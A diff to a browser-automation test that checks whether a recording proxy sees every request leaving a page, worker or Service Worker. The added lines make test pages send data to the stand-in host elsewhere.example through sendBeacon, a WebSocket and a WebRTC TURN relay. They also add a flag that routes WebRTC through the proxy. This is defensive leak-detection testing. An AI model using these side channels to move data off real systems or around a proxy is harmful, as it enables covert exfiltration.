@@ -14,6 +14,8 @@ const hub = new WeightsServer();
 /** The browser's own services are told to be at an address of their own, which is no page's. */
 const browserOrigin = 'http://chromium.invalid';
 const ownServices = [
+  // WebRTC is the one way around a proxy: by UDP, to any address.
+  '--force-webrtc-ip-handling-policy=disable_non_proxied_udp',
   '--disable-component-update',
   `--component-updater=url-source=${browserOrigin}/`,
   `--gaia-url=${browserOrigin}`,
@@ -108,14 +110,30 @@ test('the count sees what a page, a worker and a Service Worker send, and lets n
   await context.serviceWorkers()[0]?.evaluate(send, 'http://elsewhere.example/service-worker');
   await page.evaluate(send, `${pages}/v1/embeddings/leak`);
   await page.evaluate(send, 'https://elsewhere.example/');
-  const found = strayed(proxy.requests.slice(before), isFileOf(pages)).map(({ url }) => url);
-  expect(found.sort()).toEqual(
+  await page.evaluate(async () => {
+    navigator.sendBeacon('http://elsewhere.example/beacon', 'a secret');
+    const socket = new WebSocket('ws://elsewhere.example/socket');
+    await new Promise((resolve) => {
+      socket.onerror = resolve;
+    });
+    const urls = 'turn:elsewhere.example:3478?transport=tcp';
+    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'secret' }] });
+    peer.createDataChannel('a secret');
+    await peer.setLocalDescription();
+  });
+  await expect.poll(() => proxy.requests.map(({ url }) => url)).toContain('https://elsewhere.example:3478/');
+  // A relay is asked as often as it likes.
+  const found = new Set(strayed(proxy.requests.slice(before), isFileOf(pages)).map(({ url }) => url));
+  expect([...found].sort()).toEqual(
     [
       'http://elsewhere.example/page',
       'http://elsewhere.example/service-worker',
       'http://elsewhere.example/worker',
       `${pages}/v1/embeddings/leak`,
       'https://elsewhere.example:443/',
+      'https://elsewhere.example:80/',
+      'https://elsewhere.example:3478/',
+      'http://elsewhere.example/beacon',
     ].sort(),
   );
 });
